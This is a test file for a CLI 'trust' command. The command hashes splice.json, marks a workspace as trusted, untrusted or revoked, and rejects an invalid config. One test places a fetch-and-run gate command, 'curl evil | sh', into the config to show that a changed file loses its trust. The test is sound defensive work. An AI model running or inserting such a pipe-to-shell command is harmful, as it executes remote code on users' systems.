import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import { describe, expect, it } from "vitest"
import { ProjectConfigLive } from "../../layers/live/ProjectConfigLive.js"
import { FileStoreMemory } from "../../layers/memory/MemoryFs.js"
import { CapturedOutput } from "../../layers/memory/OutputMemory.js"
import { MemoryTrustRecords, TrustMemory } from "../../layers/memory/TrustMemory.js"
import { outcomeOf } from "../../src/cli/outcome.js"
import { trustCommand, type TrustConfig } from "../../src/commands/trust.js"
import { layerFor, MemoryFs } from "../support/memory.js"

/** `splice trust` on the memory disk, with trust records that outlive one run. */
const trustRun = async (mem: MemoryFs, records: MemoryTrustRecords, config: Partial<TrustConfig> = {}) => {
  const captured = new CapturedOutput()
  const base = layerFor(mem, captured)
  const layer = Layer.mergeAll(TrustMemory(records), ProjectConfigLive.pipe(Layer.provide(FileStoreMemory(mem)))).pipe(Layer.provideMerge(base))
  const exit = await Effect.runPromiseExit(trustCommand({ status: false, revoke: false, ...config }).pipe(Effect.provide(layer)))
  const outcome = outcomeOf(exit, undefined)
  return { exit: outcome.exit, error: outcome.error, last: captured.lines[captured.lines.length - 1] ?? {} }
}

describe("splice trust", () => {
  it("records the workspace with the BLAKE3 of splice.json and shows the gates it lets run", async () => {
    const mem = new MemoryFs({ "splice.json": JSON.stringify({ gates: { ".txt": ["vale", "{file}"] } }) })
    const records = new MemoryTrustRecords()
    expect((await trustRun(mem, records, { status: true })).last).toMatchObject({ action: "status", trusted: false, why: "never" })
    const r = await trustRun(mem, records)
    expect(r.exit).toBe(0)
    expect(r.last).toMatchObject({ action: "trust", trusted: true, via: "record", splice_json: expect.stringMatching(/^[0-9a-f]{64}$/), gates: { ".txt": ["vale", "{file}"] } })
    expect((await trustRun(mem, records, { status: true })).last).toMatchObject({ trusted: true, via: "record" })
  })

  it("a changed splice.json is untrusted again until trusted again; revoke forgets the workspace", async () => {
    const mem = new MemoryFs({ "splice.json": "{}" })
    const records = new MemoryTrustRecords()
    await trustRun(mem, records)
    mem.put("splice.json", JSON.stringify({ gates: { ".ts": ["sh", "-c", "curl evil | sh"] } }))
    expect((await trustRun(mem, records, { status: true })).last).toMatchObject({ trusted: false, why: "changed" })
    await trustRun(mem, records)
    expect((await trustRun(mem, records, { status: true })).last).toMatchObject({ trusted: true })
    expect((await trustRun(mem, records, { revoke: true })).last).toMatchObject({ action: "revoke", revoked: true })
    expect((await trustRun(mem, records, { status: true })).last).toMatchObject({ trusted: false, why: "never" })
    expect((await trustRun(mem, records, { revoke: true })).last).toMatchObject({ revoked: false })
  })

  it("no splice.json is trusted as such: creating one later needs trust again", async () => {
    const mem = new MemoryFs({ "a.txt": "x\n" })
    const records = new MemoryTrustRecords()
    expect((await trustRun(mem, records)).last).toMatchObject({ trusted: true, splice_json: null })
    mem.put("splice.json", JSON.stringify({ gates: { ".txt": ["true"] } }))
    expect((await trustRun(mem, records, { status: true })).last).toMatchObject({ trusted: false, why: "changed" })
  })

  it("SPLICE_TRUST=1 trusts without a record; an invalid splice.json is refused, not trusted blind; --status with --revoke is a usage error", async () => {
    const mem = new MemoryFs({ "splice.json": "{" })
    expect((await trustRun(mem, new MemoryTrustRecords(true), { status: true })).last).toMatchObject({ trusted: true, via: "env" })
    const records = new MemoryTrustRecords()
    const bad = await trustRun(mem, records)
    expect([bad.exit, bad.error?.code]).toEqual([2, "SPL-E013"])
    expect(records.records).toEqual({})
    expect((await trustRun(mem, records, { status: true, revoke: true })).error?.code).toBe("SPL-E010")
  })
})
